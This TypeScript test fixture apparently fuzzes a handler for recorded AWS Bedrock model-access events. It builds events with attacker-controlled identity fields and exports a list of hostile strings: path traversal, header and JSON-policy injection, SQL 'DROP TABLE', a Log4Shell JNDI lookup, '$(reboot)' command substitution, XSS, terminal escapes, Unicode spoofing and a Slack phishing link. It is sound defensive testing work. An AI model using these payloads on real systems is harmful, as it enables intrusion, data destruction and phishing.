import { readFileSync } from 'node:fs'
import { account, region } from '../cloud.ts'

const file = new URL('../events/bedrock-model-access-enabled/fires.json', import.meta.url)
const recorded = readFileSync(file, 'utf8')
  .replaceAll('111122223333', account)
  .replaceAll('eu-central-1', region)

interface Real {
  id: string
  detail: { userIdentity: { type: unknown; sessionContext: { sessionIssuer: { userName: unknown } } } }
}

/** A recorded event that names the role `rag-indexer`, or in its place what an attacker would like better. */
export function realEvent(more: { userName?: unknown; type?: unknown } = {}): Real & Record<string, unknown> {
  const event = JSON.parse(recorded)
  const { userIdentity } = event.detail
  if ('userName' in more) userIdentity.sessionContext.sessionIssuer.userName = more.userName
  if ('type' in more) userIdentity.type = more.type
  return event
}

/** Texts that mean something to somebody else: a policy, a path, a terminal, a log, HTML, a shell, a reader. */
export const hostile = [
  '',
  ' ',
  '*',
  'rag-*',
  'rag-?ndexer',
  '../rag-indexer',
  'rag-indexer/../admin',
  'rag-indexer/admin',
  'rag-indexer\n',
  'rag-indexer\r\nX-Amz-Target: x',
  'rag-indexer\u0000',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u202egninrot',
  'rag\u200bindexer',
  'r\u0430g-indexer',
  '\uff52\uff41\uff47',
  '\ud83d\ude08',
  '{"Effect":"Allow","Action":"*"}',
  '","Action":"*","x":"',
  "'; DROP TABLE journal; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's text, not a template.
  '${jndi:ldap://x}',
  '$(reboot)',
  '<img src=x onerror=alert(1)>',
  '<!channel> <https://evil.example|click>',
  'arn:aws:iam::123456789012:role/admin',
  'a'.repeat(300),
]

/** Brackets in brackets, this deep. */
export function nested(levels: number): unknown {
  let here: unknown = 'bottom'
  for (let level = 0; level < levels; level++) here = [here]
  return here
}
